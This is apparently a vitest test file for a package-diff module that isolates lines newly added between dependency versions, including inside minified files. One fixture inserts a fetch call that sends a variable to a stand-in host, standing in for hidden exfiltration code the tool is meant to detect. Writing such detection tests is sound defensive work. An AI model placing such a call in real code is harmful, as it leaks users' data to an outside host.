import { describe, expect, it } from 'vitest';
import { diffPackages, fileKind, forEachUnit } from '../../src/content/diff.js';
import { pkg } from './support.js';

const added = (d: ReturnType<typeof diffPackages>, path: string) =>
  d.files.find((f) => f.path === path)?.added.map((u) => [u.line, u.text.trim()]);

describe('diffPackages', () => {
  it('gives the added lines of a changed file with their lines in the new file', () => {
    const d = diffPackages(
      pkg({ 'a.js': 'one\ntwo\nthree\n' }),
      pkg({ 'a.js': 'one\ntwo\n  inserted\nthree\nfour\n' }),
    );
    expect(added(d, 'a.js')).toEqual([
      [3, 'inserted'],
      [5, 'four'],
    ]);
    expect(d.files[0]!.status).toBe('changed');
  });

  it('counts lines as a multiset: a second copy of an existing line is added, a moved line is not', () => {
    const d = diffPackages(
      pkg({ 'a.js': 'x();\ny();\n', 'b.js': 'z();\n' }),
      pkg({ 'a.js': 'y();\nx();\nx();\n', 'b.js': 'w();\n' }),
    );
    expect(added(d, 'a.js')).toEqual([[3, 'x();']]);
    expect(added(d, 'b.js')).toEqual([[1, 'w();']]);
    expect(d.removed).toEqual([]);
  });

  it('does not count code moved to a file of another name (a rebuilt chunk)', () => {
    const code = Array.from({ length: 300 }, (_, i) => `export const v${i} = ${i};`).join('\n');
    const d = diffPackages(pkg({ 'dist/chunk-aaaa.js': code }), pkg({ 'dist/chunk-bbbb.js': code }));
    expect(added(d, 'dist/chunk-bbbb.js')).toEqual([]);
    expect(d.removed).toEqual(['dist/chunk-aaaa.js']);
  });

  it('leaves out unchanged files, and lists docs and binaries without reading lines', () => {
    const d = diffPackages(
      pkg({ 'same.js': 'a\n', 'README.md': 'old' }),
      pkg({ 'same.js': 'a\n', 'README.md': 'new text', 'x.node': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]) }),
    );
    expect(d.files.map((f) => [f.path, f.kind, f.status, f.added.length])).toEqual([
      ['README.md', 'doc', 'changed', 0],
      ['x.node', 'binary', 'added', 0],
    ]);
  });

  it('treats every line of a package new to the lockfile as added', () => {
    const d = diffPackages(undefined, pkg({ 'i.js': 'a\n\nb' }));
    expect(added(d, 'i.js')).toEqual([
      [1, 'a'],
      [3, 'b'],
    ]);
  });

  it('cuts a minified line into pieces and finds the one piece that changed', () => {
    const stmts = Array.from({ length: 2000 }, (_, i) => `var a${i}=${i};`);
    const before = stmts.join('');
    const after = [...stmts.slice(0, 1000), "fetch('https://x.test/'+k);", ...stmts.slice(1000)].join('');
    const d = diffPackages(pkg({ 'm.js': before }), pkg({ 'm.js': after }));
    const units = d.files[0]!.added;
    expect(units.length).toBeGreaterThan(0);
    expect(units.length).toBeLessThanOrEqual(3);
    expect(units.some((u) => u.text.includes("fetch('https://x.test/'+k)"))).toBe(true);
    expect(units.every((u) => u.line === 1 && u.text.length <= 1000)).toBe(true);
  });
});

describe('fileKind and forEachUnit', () => {
  it.each([
    ['package.json', 'manifest'],
    ['lib/index.js', 'code'],
    ['index.d.ts', 'doc'],
    ['dist/app.js.map', 'doc'],
    ['CHANGELOG.md', 'doc'],
    ['LICENSE', 'doc'],
    ['bin/tool.node', 'binary'],
    ['scripts/run.sh', 'code'],
  ])('%s is %s', (path, kind) => {
    expect(fileKind(path, Buffer.from('text'))).toBe(kind);
  });

  it('reads a file with a NUL byte, or an executable header, as binary whatever its name', () => {
    expect(fileKind('data.js', Buffer.from([0x61, 0, 0x62]))).toBe('binary');
    expect(fileKind('run', Buffer.from('MZ\x90\x00'))).toBe('binary');
  });

  it('numbers CRLF lines like LF lines', () => {
    const seen: [number, string][] = [];
    forEachUnit('a\r\nb\r\n', (t, line) => seen.push([line, t]));
    expect(seen).toEqual([
      [1, 'a'],
      [2, 'b'],
      [3, ''],
    ]);
  });
});
